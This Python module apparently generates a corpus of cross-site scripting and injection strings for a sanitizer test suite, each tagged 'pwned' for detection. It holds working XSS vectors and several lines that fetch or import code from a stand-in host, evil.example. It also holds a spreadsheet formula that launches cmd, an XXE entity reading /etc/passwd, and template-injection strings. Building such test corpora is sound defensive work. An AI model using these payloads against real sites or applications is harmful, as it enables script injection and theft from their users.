"""Texts that would run as a script, load something from elsewhere or lead there, wherever a page let them.

Each that makes an element or an attribute marks it with `pwned` in its name, so that a parser finds it; each that runs
says so in one of the ways that `test_scripts` watches.
"""

ACTIONS = [
    "alert(1)", "window.__pwned=1", "console.log('__pwned')", "top.location='//evil.example/'", "fetch('//evil.example/')",
    "prompt`1`", "confirm(document.domain)", "import('//evil.example/x.js')",
]
BEFORE = [
    "", '">', "'>", "`>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "]]>",
    "--!>", "</select></form>", '"/>', "</summary></p>", "\\\">", "&#x22;&gt;",
]
ELEMENTS = [
    "<script pwned>{}</script>", "<ScRiPt pwned>{}</sCrIpT>", "<img pwned src=x onerror={}>", "<svg pwned onload={}>",
    "<svg/pwned/onload={}>", "<details pwned open ontoggle={}>", '<iframe pwned srcdoc="<script>parent.{}</script>">',
    "<input pwned autofocus onfocus={}>", "<video pwned><source onerror={}></video>", "<body pwned onload={}>",
    '<math pwned><mtext><a xlink:href="javascript:{}">x</a></math>', '<embed pwned src="javascript:{}">',
    '<object pwned data="data:text/html,<script>{}</script>"></object>', '<base pwned href="//evil.example/">',
    '<meta pwned http-equiv=refresh content="0;url=//evil.example/">', "<audio pwned src onerror={}>",
    '<link pwned rel=stylesheet href="//evil.example/x.css">', "<svg pwned><animate onbegin={} attributeName=x dur=1s>",
    '<form pwned action="javascript:{}"><button>x</button></form>', "<xss-pwned tabindex=1 autofocus onfocus={}>",
    '<style pwned>@import "//evil.example/x.css";</style>', '<a pwned href="javascript:{}">x</a>',
]
QUOTES = ['"', "'", "", "`", "&quot;", "\u00a0\"", "\\'"]
EVENTS = ["onerror", "onload", "onfocus", "onmouseover", "onanimationstart", "onpointerenter", "oncopy"]
URLS = [
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "&#106;avascript:{}", "&#x6A&#x61vascript:{}", " javascript:{}",
    "\u00a0javascript:{}", "javascript&colon;{}", "javascript://x%0a{}", "data:text/html,<script pwned>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={}>", "vbscript:{}",
    "VbScRiPt:{}", "file:///etc/passwd", "//evil.example/", "\\\\evil.example\\", "/\\evil.example/", "///evil.example/",
    "https:evil.example", "https://127.0.0.1@evil.example/", "https://аррӏе.example/", "blob:https://evil.example/x",
    "view-source:javascript:{}", "feed:javascript:{}", "jar:https://evil.example!/", "https://evil.example/\"onfocus=\"{}",
]
LINKS = ["{}", "[pwned]({})", "![pwned]({})", "<{}>", '[pwned](https://example.org "{}")']
MUTATIONS = [
    '<svg><style><img pwned title="</style><img pwned src=x onerror={}>">',
    "<math><mtext><table><mglyph><style><!--</style><img pwned title='--&gt;&lt;img src=1 onerror={}&gt;'>",
    '<noscript><p pwned title="</noscript><img src=x onerror={}>">', "<form pwned><math><mtext></form><form><mglyph>"
    "<style></math><img src onerror={}>", '<svg></p><style><a pwned id="</style><img src=1 onerror={}>">',
    "<template pwned><script>{}</script></template>", "<select pwned><style><img src=x onerror={}></style></select>",
    "<svg><desc pwned><![CDATA[</desc><script>{}</script>]]></svg>", "<title pwned><a id='</title><svg onload={}>'>",
    "<xmp pwned><p title='</xmp><svg onload={}>'>", "<frameset pwned onload={}>", "<isindex pwned action=javascript:{}>",
]
OTHERS = [
    '"}}</script><script pwned>{}</script>', '"@context":"</script><img pwned src=x onerror={}>"', "\\u003cimg pwned onerror={}>",
    "</content></entry><entry pwned><title>x</title>", "<![CDATA[<script pwned>{}</script>]]>", "&lt;script pwned&gt;{}&lt;/script&gt;",
    "%3Cscript pwned%3E{}%3C/script%3E", "+ADw-script pwned+AD4-{}+ADw-/script+AD4-", "=HYPERLINK(\"//evil.example\";\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\u2028</script><script pwned>{}</script>", "\u202egnp.exe<img pwned onerror={}>",
    "\ufeff<img pwned src=x onerror={}>", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<%= {} %>", "<?php pwned {} ?>",
    "<!ENTITY pwned SYSTEM 'file:///etc/passwd'>&pwned;", "';{}//", '";{}//', "\\';{}//", "*/{}/*", "<\u0130mg pwned onerror={}>",
    "\u0131mg<\u017fcript pwned>{}</\u017fcript>", "\uff1cscript pwned\uff1e{}\uff1c/script\uff1e", "<\u2028img pwned src=x onerror={}>",
    "expression({})", "url(javascript:{})", "</style><svg pwned onload={}>", "<!--><img pwned src=x onerror={}>-->",
    "<![if pwned]><script>{}</script><![endif]>", "<!-- pwned", "<plaintext pwned>",
]
ZEROS = ["\0<script pwned>alert(1)</script>", "<scr\0ipt pwned>alert(1)</script>", "java\0script:alert(1)"]
"""With NUL, which nothing takes in."""


def payloads():
    """All of them, those that would swallow what follows at the end."""
    shapes = [before + element for before in BEFORE for element in ELEMENTS]
    shapes += [f"x{quote} pwned {event}={quote}{{}}" for quote in QUOTES for event in EVENTS]
    shapes += [link.replace("{}", url) for link in LINKS for url in URLS]
    shapes += MUTATIONS + OTHERS
    return [shape.format(ACTIONS[number % len(ACTIONS)]) for number, shape in enumerate(shapes)]


def packs(texts, limit, between=" "):
    """As few texts as hold them all, each of so many bytes at most."""
    packed, pack = [], ""
    for text in texts:
        joined = pack + between + text if pack else text
        if len(joined.encode()) > limit:
            packed.append(pack)
            joined = text
        pack = joined
    return [*packed, pack]
